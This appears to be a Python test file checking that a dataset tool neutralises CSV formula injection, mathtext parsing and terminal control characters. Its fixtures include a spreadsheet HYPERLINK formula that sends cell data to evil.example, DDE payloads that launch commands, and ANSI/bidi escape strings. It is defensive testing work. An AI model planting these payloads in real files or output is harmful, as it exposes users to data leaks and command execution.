"""Text from a dataset is only ever text: a spreadsheet does not run it as a formula,
matplotlib does not read it as mathematics, a terminal does not obey it."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from matplotlib.text import Text

import lineage
from lineage import Lineage
from lineage.io import parse_dataset
from lineage.views.export import to_csv

from . import crafted
from .crafted import run

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _formula_dataset(tmp_path: Path) -> Path:
    events = []
    for i, text in enumerate(FORMULAS):
        events.append(
            {
                **crafted.pledge(f"p{i}", "a", "b", "2010"),
                "description": text,
                "note": text,
                "citations": [{"source": "s", "quote": text}],
            }
        )
    doc = crafted.dataset([crafted.group("a"), crafted.group("b")], events)
    return crafted.write(tmp_path, doc)


def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    path = _formula_dataset(tmp_path)
    out = tmp_path / "events.csv"
    assert run("export", "--format", "csv", "-o", out, "--data", path)[0] == 0
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(FORMULAS)
    for row, text in zip(rows, FORMULAS, strict=True):
        for column in ("description", "quotes", "note"):
            assert row[column] == "'" + text  # shown as the text it is, never run
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
    assert out.read_text(encoding="utf-8").startswith('"id","kind"')  # every cell quoted


def test_csv_keeps_plain_numbers_and_text(lg: Lineage) -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv(lg.graph))))
    assert {r["id"] for r in rows} == {e.id for e in lg.events}
    assert all(not r["description"].startswith("'") for r in rows)


def test_formulas_from_an_mmp_import_are_neutralised_on_export(tmp_path: Path) -> None:
    key, rel = tmp_path / "key.csv", tmp_path / "rel.csv"
    key.write_text("group_id,name\n1,\"=cmd|' /C calc'!A0\"\n2,@Beta\n", encoding="utf-8")
    rel.write_text(
        "unique_id,type,group1_id,group2_id,date,description,group1_name,group2_name\n"
        '7,riv,2,1,2001-00-00,"=HYPERLINK(""http://x"")",x,y\n',
        encoding="utf-8",
    )
    mmp = tmp_path / "mmp.json"
    assert run("import", "mmp", rel, key, "-o", mmp)[0] == 0
    code, out, _ = run("export", "--format", "csv", "--data", mmp)
    assert code == 0
    [row] = csv.DictReader(io.StringIO(out))
    assert row["description"].startswith("'=")
    assert row["quotes"].startswith("'=")


MATHS = ["Price $5 and $6", r"$\frac{1}$", r"$\alpha$ Brigade", "100% $ure"]


def test_names_are_drawn_as_written_never_as_mathtext(tmp_path: Path) -> None:
    groups = [crafted.group(f"g{i}", name, founded=str(2000 + i)) for i, name in enumerate(MATHS)]
    events = [crafted.pledge("p", "g0", "g1", "2005")]
    doc = crafted.dataset(groups, events)
    doc["sources"][0]["title"] = r"A $\frac{1}$ title"
    lg = Lineage(parse_dataset(json.dumps(doc)))
    ax = lg.draw()
    labels = [t.get_text() for t in ax.texts if t.get_text()]
    assert sorted(labels) == sorted(MATHS)
    assert all(not t.get_parse_math() for t in ax.texts)
    legend = ax.get_legend()
    assert legend is not None
    assert all(not t.get_parse_math() for t in legend.get_texts())
    [title] = [t for t in ax.get_children() if isinstance(t, Text) and "Lineage" in t.get_text()]
    assert not title.get_parse_math()
    for kind in (".png", ".svg", ".pdf"):  # renders: no mathtext error
        assert lineage.load(crafted.write(tmp_path, doc)).diagram().image(kind)
    code, _, err = run("draw", "g1", "-o", tmp_path / "m.png", "--data", tmp_path / "data.json")
    assert code == 0, err


CONTROLS = "Evil\x9b2J\x9d0;title\x9c \u202egnp.exe\rFAKE"


@pytest.fixture
def escapes(tmp_path: Path) -> Path:
    groups = [crafted.group("a", CONTROLS, founded="2000"), crafted.group("b", founded="2000")]
    events = [
        {
            **crafted.pledge("p", "a", "b", "2010"),
            "description": CONTROLS,
            "citations": [{"source": "s", "quote": CONTROLS}],
        }
    ]
    return crafted.write(tmp_path, crafted.dataset(groups, events))


@pytest.mark.parametrize(
    "args",
    [
        ["show"],
        ["show", "a"],
        ["timeline", "a"],
        ["explain", "a", "b"],
        ["allegiance", "a", "--at", "2012"],
        ["camp", "b", "--at", "2012"],
        ["snapshot", "2012"],
        ["became", "a"],
    ],
)
def test_the_terminal_never_gets_a_control_character(escapes: Path, args: list[str]) -> None:
    code, out, err = run(*args, "--data", escapes)
    assert code in (0, 1), err
    shown = out + err
    for c in "\x9b\x9d\x9c\u202e\r\x1b":
        assert c not in shown
    if "Evil" in shown:
        assert "Evil\\x9b2J" in shown


def test_json_output_escapes_controls_and_reads_back_the_same(escapes: Path) -> None:
    code, out, _ = run("show", "a", "--json", "--data", escapes)
    assert code == 0
    for c in "\x9b\x9d\x9c\u202e\r":
        assert c not in out
    assert json.loads(out)["name"] == CONTROLS


def test_an_error_line_never_carries_a_control_character(tmp_path: Path) -> None:
    doc = crafted.dataset([crafted.group("a", founded="2000\x1b[2J")])
    code, _, err = run("check", crafted.write(tmp_path, doc))
    assert code == 2
    assert "\x1b" not in err
    assert "2000\\x1b[2J" in err
